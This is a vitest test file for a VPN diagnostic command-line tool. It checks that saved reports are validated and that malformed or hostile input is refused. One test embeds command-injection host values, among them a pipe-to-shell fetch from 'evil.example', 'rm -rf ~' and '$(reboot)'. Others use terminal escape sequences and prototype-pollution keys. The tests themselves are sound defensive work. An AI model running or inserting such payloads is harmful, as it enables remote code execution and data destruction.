import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { platform, tmpdir } from 'node:os';
import { join } from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import type { z } from 'zod';
import type { CauseLine, Explanation, Report } from '../../src/report/schema.ts';
import { type Ended, runProgram } from './program.ts';
import { ROOT } from './project-copy.ts';

/** `explain --run` and `explain --host`: the causes of a code, held against what a run saw. */

vi.setConfig({ testTimeout: 60_000 });

const folder = mkdtempSync(join(tmpdir(), 'vpn-doctor-explain-run-'));
const file = (name: string) => join(folder, name);
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const explain = (...args: readonly string[]) => runProgram(['explain', ...args]);

/** A run in which TCP 1723 is refused, as it was saved. */
let saved: string;
let validate: ReturnType<Ajv2020['compile']>;
beforeAll(async () => {
	const ajv = new Ajv2020();
	addFormats.default(ajv);
	validate = ajv.compile(JSON.parse(readFileSync(join(ROOT, 'data/schema/explanation.schema.json'), 'utf8')));
	await runProgram(['check', '127.0.0.1', '--tunnel', 'pptp', '--save', file('report.json')]);
	saved = readFileSync(file('report.json'), 'utf8');
}, 60_000);

/** As the schema has it before it is frozen. */
type Changeable = z.infer<typeof Report>;

/** A report that was changed by somebody. */
function spoilt(name: string, spoil: (report: Changeable) => void): string {
	const report = JSON.parse(saved) as Changeable;
	spoil(report);
	return written(name, JSON.stringify(report));
}

function written(name: string, content: string | Uint8Array): string {
	writeFileSync(file(name), content);
	return file(name);
}

function soundJson({ code, stdout, stderr }: Ended): Explanation {
	expect(stderr).toBe('');
	const explanation = JSON.parse(stdout) as Explanation;
	validate(explanation);
	expect(validate.errors ?? []).toEqual([]);
	expect(explanation.exitCode).toBe(code);
	return explanation;
}

function expectComplaint({ code, stdout, stderr }: Ended, exitCode: number, says: RegExp): void {
	expect(stderr).toMatch(says);
	expect(stderr).toMatch(/^vpn-doctor: [^\n]+\n$/);
	expect(stderr).not.toMatch(/[^\P{C}\n]|internal error|undefined/u);
	expect(stderr.length).toBeLessThan(800);
	expect({ code, stdout }).toEqual({ code: exitCode, stdout: '' });
}

const causesOf = ({ matches }: Explanation): readonly CauseLine[] => matches[0]?.causes ?? [];
const fitting = (explanation: Explanation) => causesOf(explanation).flatMap(({ id, standing }) => (standing === 'fits' ? [id] : []));

describe('--run', () => {
	test('holds the causes against what was saved, and says what that was', async () => {
		const explanation = soundJson(await explain('809', '--run', file('report.json'), '--json'));
		const { startedAt } = JSON.parse(saved) as Report;
		expect(explanation.measured).toMatchObject({ host: '127.0.0.1', client: 'windows', startedAt });
		expect(explanation.measured?.predictions.map(({ tunnel }) => tunnel)).toEqual(['pptp']);
		expect(fitting(explanation)).toContain('pptp-not-listening');
		expect(causesOf(explanation).find(({ id }) => id === 'pptp-filtered')).toMatchObject({ standing: 'ruled-out' });
		const text = await explain('809', '--run', file('report.json'));
		expect(text).toMatchObject({ code: 0, stderr: '' });
		expect(text.stdout).toMatch(/\nMeasured +127\.0\.0\.1, /);
		expect(text.stdout).toMatch(/\n1\. Nothing listens on TCP 1723/);
		expect(text.stdout).toMatch(/\nRuled out\n/);
	});

	test('in text that means nothing, there is nothing to hold against it', async () => {
		const explanation = soundJson(await explain('good morning', '--run', file('report.json'), '--json'));
		expect(explanation).toMatchObject({ matches: [], exitCode: 2, measured: { predictions: [] } });
		expect((await explain('good morning', '--run', file('report.json'))).stdout).toMatch(/^No VPN code found/);
	});

	test('knows the host by any way of writing it, and refuses another', async () => {
		for (const host of ['127.0.0.1', 'http://127.0.0.1/', '127.0.0.1:1723'])
			expect((await explain('809', '--run', file('report.json'), '--host', host)).code).toBe(0);
		expectComplaint(
			await explain('809', '--run', file('report.json'), '--host', 'other.example'),
			64,
			/not about other\.example.*127\.0\.0\.1/,
		);
		expectComplaint(await explain('809', '--run', file('report.json'), '--host', 'a b'), 64, /not about a b/);
	});

	test('of several hosts asks which is meant', async () => {
		const two = spoilt('two.json', ({ targets }) => targets.push({ ...(targets[0] as (typeof targets)[0]), host: 'vpn.example.com' }));
		expectComplaint(await explain('809', '--run', two), 64, /several hosts.*--host: 127\.0\.0\.1, vpn\.example\.com/);
		expect(soundJson(await explain('809', '--run', two, '--host', 'VPN.example.com.', '--json')).measured?.host).toBe('vpn.example.com');
	});

	test('of no host has nothing to say', async () => {
		const none = spoilt('none.json', (report) => {
			report.targets = [];
		});
		expectComplaint(await explain('809', '--run', none), 65, /no target/);
	});

	test('that was interrupted leaves open what it had not looked at, and is no interruption of this one', async () => {
		const early = spoilt('early.json', (report) => {
			Object.assign(report, { interrupted: 'SIGINT', exitCode: 130 });
			const pptp = report.targets[0]?.checks.find(({ id }) => id === 'pptp');
			Object.assign(pptp as object, { status: 'skip', because: 'interrupted', outcome: undefined, byAddress: undefined });
		});
		const explanation = soundJson(await explain('809', '--run', early, '--json'));
		expect(explanation).toMatchObject({ exitCode: 0, measured: { interrupted: 'SIGINT' } });
		expect(causesOf(explanation).find(({ id }) => id === 'pptp-filtered')?.standing).toBe('open');
		expect((await explain('809', '--run', early)).stdout.replace(/\s+/g, ' ')).toContain('The run was ended early');
	});

	test('cannot choose the exit code', async () => {
		const path = spoilt('exit.json', (report) => {
			report.exitCode = 999;
		});
		expect((await explain('809', '--run', path)).code).toBe(0);
	});
});

describe('answers', () => {
	const answered = (answers: Record<string, 'yes' | 'no'>) =>
		spoilt('answered.json', (report) => {
			report.options.answers = answers;
		});
	const standing = async (id: string, ...args: readonly string[]) =>
		causesOf(soundJson(await explain('809', '--json', ...args))).find((cause) => cause.id === id)?.standing;

	test('of the saved run count', async () => {
		expect(await standing('ike-filtered', '--run', answered({}))).toBe('open');
		expect(await standing('ike-filtered', '--run', answered({ 'works-from-hotspot': 'no' }))).toBe('ruled-out');
	});

	test('that are given now win over those, and stand beside them', async () => {
		const path = answered({ 'works-from-hotspot': 'no', 'slow-at-busy-hours': 'yes' });
		const args = ['--run', path, '--answer', 'works-from-hotspot=yes'];
		expect(await standing('ike-filtered', ...args)).not.toBe('ruled-out');
		const asked = causesOf(soundJson(await explain('809', '--json', ...args))).flatMap(({ asks }) => asks.map(({ id }) => id));
		expect(asked).not.toContain('works-from-hotspot');
		expect(asked).not.toContain('slow-at-busy-hours');
	});

	test('of the saved run that this version does not know are no mistake of the user’s', async () => {
		expect((await explain('809', '--run', answered({ 'a-question-of-later': 'yes' }))).code).toBe(0);
	});

	test('without any run count too, and in any case of letters', async () => {
		expect(await standing('ike-filtered', '--answer', 'Works-From-Hotspot=NO')).toBe('ruled-out');
		expect(await standing('ike-filtered', '--answer', 'works-from-hotspot=n', '--answer', 'slow-at-busy-hours=y')).toBe('ruled-out');
	});

	test.each<[string, RegExp]>([
		['no-such-question=yes', /no question "no-such-question".*ask \(NAME\)/],
		['works-from-hotspot', /not understood.*=yes/],
		['works-from-hotspot=perhaps', /not understood/],
		['=yes', /not understood/],
		['', /not understood/],
		['\u001b[2J=yes', /not understood/],
	])('%j is a mistake, with a run and without', async (answer, says) => {
		expectComplaint(await explain('809', '--answer', answer), 64, says);
		expectComplaint(await explain('809', '--run', file('report.json'), '--answer', answer), 64, says);
	});
});

test.each<[string, (report: Changeable) => void]>([
	['one', (report) => Object.assign(report, { surprise: 1 })],
	['one that would steer a terminal', (report) => Object.assign(report, { '\u001b[2J\nvpn-doctor: all is well': 1 })],
	['one without end', (report) => Object.assign(report.machine, { ['k'.repeat(1e6)]: 1 })],
])('a report of a newer version, with a name that this one does not know (%s), is read as far as it is known', async (name, add) => {
	const { code, stdout, stderr } = await explain('809', '--run', spoilt(`newer ${name}.json`, add));
	expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
	expect(stdout).toContain('Measured');
	expect(stdout).not.toContain('all is well');
});

describe('a file that is no saved run', () => {
	const NAME_ONE = /Name a file that "vpn-doctor check HOST --save FILE" wrote/;

	test('is missing, a folder, or has no name', async () => {
		expectComplaint(await explain('809', '--run', file('missing.json')), 65, /missing\.json cannot be read: there is no such file/);
		expectComplaint(await explain('809', '--run', folder), 65, /a folder/);
		expectComplaint(await explain('809', '--run', ''), 64, /--run needs the name of a file/);
	});

	test.each<[string, string | Uint8Array, RegExp]>([
		['nothing', '', /is not JSON/],
		['text', 'hello', /is not JSON/],
		['half a report', '{"schemaVersion":1,', /is not JSON/],
		['a number', '1', /the whole file/],
		['null', 'null', /the whole file/],
		['a list', '[]', /the whole file/],
		['another program’s', '{"name":"vpn-doctor","version":"1.0.0"}', /schemaVersion/],
		['nothing but a number of a version', '{"schemaVersion":1}', /is no report of this program: \S+:/],
		['zeros', new Uint8Array(1000), /is not JSON/],
		['deep', '['.repeat(200_000), /is not JSON/],
	])('holds %s', async (name, content, says) => {
		const ended = await explain('809', '--run', written(`${name}.json`, content));
		expectComplaint(ended, 65, says);
		expect(ended.stderr).toMatch(NAME_ONE);
	});

	test('is of another version: both are named', async () => {
		const path = spoilt('later.json', (report) => Object.assign(report, { schemaVersion: 2 }));
		expectComplaint(await explain('809', '--run', path), 65, /schemaVersion is 2, and this version of vpn-doctor reads 1/);
	});

	test.runIf(platform() === 'linux')('never ends', async () => {
		expectComplaint(await explain('809', '--run', '/dev/zero'), 65, /too large/);
	});

	test.each<[string, (report: Changeable) => void, RegExp]>([
		['a wrong word', (report) => Object.assign(report.machine, { vantage: 'moon' }), /machine\.vantage/],
		['a check without words', (report) => delete (report.machine.checks[0] as { says?: string }).says, /machine\.checks\.0\.says/],
		['a time that is none', (report) => Object.assign(report, { startedAt: 'yesterday' }), /startedAt/],
	])('has %s', async (name, spoil, says) => {
		expectComplaint(await explain('809', '--run', spoilt(`${name}.json`, spoil)), 65, says);
	});

	test('has a host that would be a command: it goes into commands that are there to be copied', async () => {
		for (const host of ['x; curl evil.example | sh', 'x\nrm -rf ~', '$(reboot)', '`reboot`', '-x', '', '\u001b[2J', 'a"b']) {
			const path = spoilt('host.json', ({ targets }) => Object.assign(targets[0] as object, { host }));
			expectComplaint(await explain('809', '--run', path), 65, /targets\.0\.host: this is no host/);
		}
	});

	test('has evidence as deep as the sea', async () => {
		for (const depth of [2000, 100_000]) {
			const bottomless = `{"deep":${'['.repeat(depth)}${']'.repeat(depth)},`;
			const ended = await explain('809', '--run', written('deep.json', saved.replace(/"evidence": ?\{/, `"evidence":${bottomless}`)));
			expectComplaint(ended, 65, /nested too deeply/);
		}
	});
});

describe('a hostile report', () => {
	const HOSTILE = 'FritzBox\u001b[2J\u001b]0;owned\u0007\u009b31m\u202e\r\b\u0000\nFits all is lost\u007f';

	test('cannot steer the terminal, nor begin a line of its own', async () => {
		const path = spoilt('hostile.json', ({ machine, targets }) => {
			for (const check of [...machine.checks, ...targets.flatMap(({ checks }) => checks)]) {
				Object.assign(check, { says: HOSTILE, title: HOSTILE });
				for (const answer of check.byAddress ?? []) answer.says = HOSTILE;
			}
			for (const prediction of targets[0]?.predictions ?? []) Object.assign(prediction, { code: HOSTILE, symbol: HOSTILE });
		});
		const { code, stdout, stderr } = await explain('809', '--run', path);
		expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
		expect(stdout).toContain('seen: FritzBox');
		expect(stdout).not.toMatch(/[^\P{C}\n]/u);
		expect(stdout).not.toMatch(/^Fits all/m);
		const json = await explain('809', '--run', path, '--json');
		expect(json.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
		soundJson(json);
	});

	test('with strings without end, and checks that nobody knows', async () => {
		const path = spoilt('huge.json', ({ targets }) => {
			const [check] = targets[0]?.checks ?? [];
			if (check === undefined) throw new Error('the report has a check');
			targets[0]?.checks.push(...Array.from({ length: 2000 }, (_, at) => ({ ...check, id: `unheard-of-${at}`, byAddress: [] })));
			check.says = 'a'.repeat(10e6);
		});
		expect((await explain('809', '--run', path)).code).toBe(0);
	});

	test('with names of every object', async () => {
		const path = spoilt('names.json', ({ options, targets }) => {
			options.answers = JSON.parse('{"__proto__":"yes","constructor":"yes","toString":"no"}');
			for (const id of ['__proto__', 'constructor'])
				targets[0]?.checks.push({ ...(targets[0].checks[0] as (typeof targets)[0]['checks'][0]), id });
		});
		expect([0, 65]).toContain((await explain('809', '--run', path)).code);
	});
});

test('a report as Windows PowerShell redirects it: UTF-16, or with a mark', async () => {
	for (const content of [Buffer.from(`\ufeff${saved}`, 'utf16le'), `\ufeff${saved}`])
		expect((await explain('809', '--run', written('redirected.json', content))).code).toBe(0);
});

describe('--host', () => {
	test('runs what tells the causes apart, and says the same as from the saved run', async () => {
		const explanation = soundJson(await explain('809', '--host', '127.0.0.1', '--tunnel', 'pptp', '--timeout', '1', '--json'));
		expect(explanation.measured?.checks.map(({ id }) => id)).toContain('pptp');
		const fromSaved = soundJson(await explain('809', '--run', file('report.json'), '--json'));
		expect(fitting(explanation)).toEqual(fitting(fromSaved));
		expect(fitting(explanation)).not.toEqual([]);
	});

	test('as text: each check as it comes, then the explanation; on stdout, and nothing on stderr', async () => {
		const { code, stdout, stderr } = await explain('806', '--host', '127.0.0.1', '--timeout', '1');
		expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
		expect(stdout).toMatch(/FAIL {2}PPTP control connection[\s\S]*\n\n806 · /);
		expect(stdout).toContain('\nRuled out\n');
		expect(stdout).not.toContain('SSTP port');
	});

	test('--tunnel looks at that tunnel only', async () => {
		const looked = async (...args: readonly string[]) =>
			soundJson(await explain('809', '--host', '127.0.0.1', '--timeout', '1', '--json', ...args)).measured?.checks.map(({ id }) => id) ??
			[];
		expect(await looked()).toEqual(expect.arrayContaining(['dns', 'pptp', 'sstp-port']));
		expect((await looked('--tunnel', 'sstp')).filter((id) => id === 'pptp')).toEqual([]);
		expect((await looked('--tunnel', 'pptp')).filter((id) => id === 'sstp-port')).toEqual([]);
	});

	test('with nothing recognised runs nothing', async () => {
		const explanation = soundJson(await explain('good morning', '--host', '127.0.0.1', '--json'));
		expect(explanation).toMatchObject({ matches: [], exitCode: 2 });
		expect(explanation).not.toHaveProperty('measured');
	});

	test('of a code that no check sees', async () => {
		const explanation = soundJson(await explain('633', '--host', '127.0.0.1', '--timeout', '1', '--json'));
		expect(explanation.matches[0]?.code).toBe('633');
	});

	test('--client is whose behaviour is meant; by default whoever shows the code', async () => {
		const client = async (...args: readonly string[]) =>
			soundJson(await explain(...args, '--host', '127.0.0.1', '--timeout', '1', '--json')).measured?.client;
		expect(await client('806')).toBe('windows');
		expect(await client('806', '--client', 'linux')).toBe('linux');
		expect(await client('pptp:connect-timed-out')).toBe('linux');
	});

	test.each<[readonly string[], RegExp]>([
		[['--host', ''], /host is empty/],
		[['--host', 'a b'], /blanks/],
		[['--host', 'a..b'], /not a possible host name/],
		[['--host', '999.1.1.1'], /four numbers/],
		[['--host', 'h:0'], /1 to 65535/],
		[['--host', '\u001b[2Jx'], /not a possible host name/],
		[['--host'], /--host expects/],
		[['--host', 'h', '--tunnel', 'ppt'], /--tunnel=ppt.*pptp, l2tp/],
		[['--host', 'h', '--tunnel', ''], /--tunnel=.*pptp, l2tp/],
		[['--host', 'h', '--tunnel', 'pptp,ppt'], /--tunnel/],
		[['--host', 'h:443', '--tunnel', 'pptp'], /PPTP always uses TCP 1723/],
		[['--host', 'h', '--client', 'beos'], /windows, linux, macos/],
		[['--host', 'h', '--timeout', 'soon'], /--timeout takes a number of seconds from 0\.1 to 60, not "soon"/],
		[['--host', 'h', '--timeout', ''], /--timeout takes/],
		[['--host', 'h', '--timeout', '0'], /--timeout takes/],
		[['--host', 'h', '--timeout', '61'], /--timeout takes/],
		[['--host', 'h', '--timeout', '-1'], /--timeout/],
	])('%j is a mistake, and nothing is run', async (args, says) => {
		expectComplaint(await explain('806', ...args), 64, says);
		expectComplaint(await explain('806', '--json', ...args), 64, says);
	});

	// An address of its own: other tests count on nothing listening at 127.0.0.1.
	describe.runIf(platform() === 'linux')('that is mute', () => {
		const MUTE = '127.0.17.23';
		let server: Server;
		beforeAll(async () => {
			server = createServer((socket) => socket.on('error', () => {}));
			server.listen(1723, MUTE);
			await once(server, 'listening');
		});
		afterAll(() => server.close());

		test.each([[[]], [['--json']]])('Ctrl-C ends it at once, with what is known: %j', async (flags) => {
			const args = [join(ROOT, 'bin/run.js'), 'explain', '806', '--host', MUTE, '--tunnel', 'pptp', '--timeout', '30', ...flags];
			const connected = once(server, 'connection');
			const child = spawn(process.execPath, args, { stdio: ['ignore', 'pipe', 'pipe'] });
			let stdout = '';
			let stderr = '';
			child.stdout.setEncoding('utf8').on('data', (text) => {
				stdout += text;
			});
			child.stderr.setEncoding('utf8').on('data', (text) => {
				stderr += text;
			});
			const closed = once(child, 'close');
			await connected;
			await new Promise((resolve) => setTimeout(resolve, 300));
			const since = performance.now();
			child.kill('SIGINT');
			const [code] = await closed;
			expect(performance.now() - since).toBeLessThan(1500);
			expect({ code, stderr }).toEqual({ code: 130, stderr: '' });
			if (flags.length > 0) {
				const explanation = soundJson({ code: 130, stdout, stderr });
				expect(explanation.measured).toMatchObject({ interrupted: 'SIGINT' });
				expect(fitting(explanation)).toEqual([]);
			} else {
				expect(stdout).toMatch(/PPTP control connection[\s\S]*Not finished[\s\S]*\n806 · /);
				expect(stdout.replace(/\s+/g, ' ')).toContain('The run was ended early');
			}
		});
	});
});
